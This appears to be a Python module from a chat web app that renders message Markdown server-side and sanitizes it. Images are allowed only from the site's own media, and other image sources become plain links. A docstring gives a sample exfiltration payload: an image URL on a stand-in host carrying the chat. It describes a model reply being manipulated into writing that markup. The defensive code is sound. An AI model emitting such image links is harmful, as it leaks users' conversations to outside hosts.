"""Markdown for messages, rendered on the server and sanitized: one policy for saved and streaming text."""

import html
import re
from urllib.parse import urlsplit

import nh3
from django.conf import settings
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from pygments import highlight as pygments_highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

_LANGUAGE = re.compile(r"[\w#+.-]{1,40}")
_FORMATTER = HtmlFormatter(nowrap=True)  # token <span class="k"> etc.; static/sessions_app/code.css colours them
MAX_HIGHLIGHT_CHARS = 100_000  # a longer block is shown plain: highlighting it would cost more than it helps


def _highlight(code: str, language: str, attrs: str) -> str:
    language = (language or "").strip().lower()
    if not _LANGUAGE.fullmatch(language) or len(code) > MAX_HIGHLIGHT_CHARS:
        return ""  # markdown-it then escapes the code itself
    try:
        lexer = get_lexer_by_name(language)
    except ClassNotFound:
        return ""
    # Pygments escapes the code; the result is cleaned by nh3 below like everything else.
    body = pygments_highlight(code, lexer, _FORMATTER)
    return f'<pre><code class="language-{html.escape(language)}">{body}</code></pre>\n'


_markdown = MarkdownIt(
    "commonmark", {"html": False, "linkify": False, "typographer": False, "highlight": _highlight}
).enable("table")
_TAGS = {
    "p", "br", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "a", "h1", "h2", "h3", "h4",
    "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td", "del", "img", "span",
}  # fmt: skip
_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "span": {"class"},
    "th": {"align"},
    "ol": {"start"},
}


def own_media(src: str) -> bool:
    """True if `src` is a file of chatsite's own media (MEDIA_URL), the only images a page loads.

    An image from anywhere else would be fetched by the reader's browser as the page opens:
    a reply talked into writing `![](https://elsewhere/?q=<the chat>)` would send the chat out.
    """
    url, media = urlsplit(src), urlsplit(settings.MEDIA_URL)
    if ".." in url.path or "\\" in src:
        return False
    if media.netloc:  # media on an origin of its own
        return url.scheme in ("http", "https") and url.netloc == media.netloc and url.path.startswith(media.path)
    return not url.scheme and not url.netloc and url.path.startswith(media.path)


def _image(renderer, tokens, idx, options, env) -> str:
    """Our own images as images; any other as a link to it, which loads nothing until it is followed."""
    token = tokens[idx]
    src = token.attrGet("src") or ""
    if own_media(src):
        return renderer.image(tokens, idx, options, env)
    text = renderer.renderInlineAsText(token.children or [], options, env) or src
    return f'<a href="{escapeHtml(src)}">{escapeHtml(text)}</a>'


_markdown.add_render_rule("image", _image)


def _filter(tag: str, attribute: str, value: str) -> str | None:
    # However an <img> got this far, it keeps no source but our own.
    if tag == "img" and attribute == "src" and not own_media(value):
        return None
    return value


def message_html(content: str) -> str:
    """Render a message's Markdown to HTML that is safe to insert into a page."""
    return nh3.clean(
        _markdown.render(content),
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        attribute_filter=_filter,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
    )


def markdown_plain(content: str) -> str:
    """The words of a Markdown text without its markup, on one line; code blocks left out."""
    words = []
    for token in _markdown.parse(content):
        if token.type != "inline":
            continue
        for child in token.children or []:
            if child.type in ("text", "code_inline"):
                words.append(child.content)
            elif child.type in ("softbreak", "hardbreak"):
                words.append(" ")
        words.append(" ")
    # Backticks of a fence that did not start a line are left in the text: they are markup too.
    return " ".join(re.sub(r"`{3,}\S*", " ", "".join(words)).split())
